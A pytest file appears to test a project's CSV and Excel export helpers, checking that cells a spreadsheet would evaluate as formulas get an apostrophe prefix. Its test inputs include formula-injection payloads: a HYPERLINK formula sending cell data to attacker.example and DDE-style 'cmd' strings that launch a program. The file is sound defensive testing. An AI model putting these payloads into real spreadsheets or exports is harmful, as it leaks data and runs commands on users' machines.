"""The one rule that keeps typed text from becoming a formula in a spreadsheet: CSV cells and
workbook cells."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from smallarms.core.exports import Column, append_row, csv_cell, csv_response, is_formula


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://attacker.example/?"&A2,"Open")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "+221 33 889 00 00",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe(typed):
    assert is_formula(typed)
    assert csv_cell(typed) == "'" + typed


@pytest.mark.parametrize("number", ["-12", "+3.5", "-1,250.75", "-1e3", "-0.25"])
def test_a_cell_that_is_entirely_a_number_stays_a_number(number):
    assert not is_formula(number)
    assert csv_cell(number) == number


@pytest.mark.parametrize(
    "value", [-12, Decimal("-250000.50"), 0, None, "National Police Service", "", "a = b", "'=x"]
)
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert csv_cell(value) == ("" if value is None else value)


def test_a_formula_after_a_separator_inside_the_text_is_neutralized_too():
    # Opened with French, Russian or Spanish settings, a CSV splits on ";": the text after it
    # begins a cell of its own.
    assert csv_cell("Police;=HYPERLINK(A1)") == "Police;'=HYPERLINK(A1)"
    assert csv_cell("Police,@SUM(A1)") == "Police,'@SUM(A1)"
    assert csv_cell("=1;2") == "'=1;2"
    # Our own lists put a space after the separator; numbers after one stay numbers.
    assert csv_cell("+254 20 555 0101; +254 20 555 0102") == "'+254 20 555 0101; +254 20 555 0102"
    assert csv_cell("12;-3") == "12;-3"


def test_the_csv_writer_neutralizes_every_cell_and_keeps_the_rest():
    rows = [{"name": "=1+1", "amount": Decimal("-12"), "note": None}]
    columns = [Column(key, lambda row, k=key: row[k]) for key in ("name", "amount", "note")]
    text = csv_response(rows, columns, "test").content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["name", "amount", "note"], ["'=1+1", "-12", ""]]


def test_a_workbook_cell_of_typed_text_is_always_text_and_keeps_the_text_exactly():
    book = openpyxl.Workbook()
    sheet = book.active
    append_row(sheet, ["=1+1", "#N/A", "-12", 15000, "Police\x0b unit", "@SUM(A1)"])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = openpyxl.load_workbook(buffer).active[1]
    assert [cell.value for cell in cells] == [
        "=1+1",
        "#N/A",
        "-12",
        15000,
        "Police unit",
        "@SUM(A1)",
    ]
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "n", "s", "s"]
    # Excel's own apostrophe: the cell shows =1+1 and stays text when edited.
    assert [cell.quotePrefix for cell in cells] == [True, False, False, False, False, True]
